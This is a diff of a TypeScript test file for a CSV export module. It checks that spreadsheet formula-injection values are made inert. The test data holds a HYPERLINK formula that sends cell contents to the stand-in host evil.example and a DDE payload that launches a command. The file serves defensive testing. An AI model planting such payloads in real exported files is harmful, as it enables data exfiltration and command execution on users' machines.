@@ -1,6 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { parse } from 'csv-parse/sync';
-import fc from 'fast-check';
+import * as fc from 'fast-check';
 import { CsvTable, formulaSafe } from './csv-table.js';
 
 interface Row {
@@ -30,7 +30,7 @@ describe('CSV tables', () => {
     '=HYPERLINK("https://evil.example?"&A1,"x")',
     "=cmd|' /C calc'!A0",
   ])('makes %j inert', evil => {
-    const [row] = parse(table.rows([{ name: evil, cost: 1 }])) as string[][];
+    const [row] = parse(table.rows([{ name: evil, cost: 1 }]));
     expect(row).toEqual([`'${evil}`, '1']);
   });
 
@@ -58,7 +58,7 @@ describe('CSV tables', () => {
     fc.assert(
       fc.property(fc.array(fc.string({ unit: 'binary' })), names => {
         const text = table.header() + table.rows(names.map(name => ({ name, cost: 7 })));
-        const rows = parse(text, { from_line: 1, record_delimiter: '\r\n' }) as string[][];
+        const rows = parse(text, { from_line: 1, record_delimiter: '\r\n' });
         expect(rows.slice(1)).toEqual(names.map(name => [formulaSafe(name), '7']));
       }),
     );
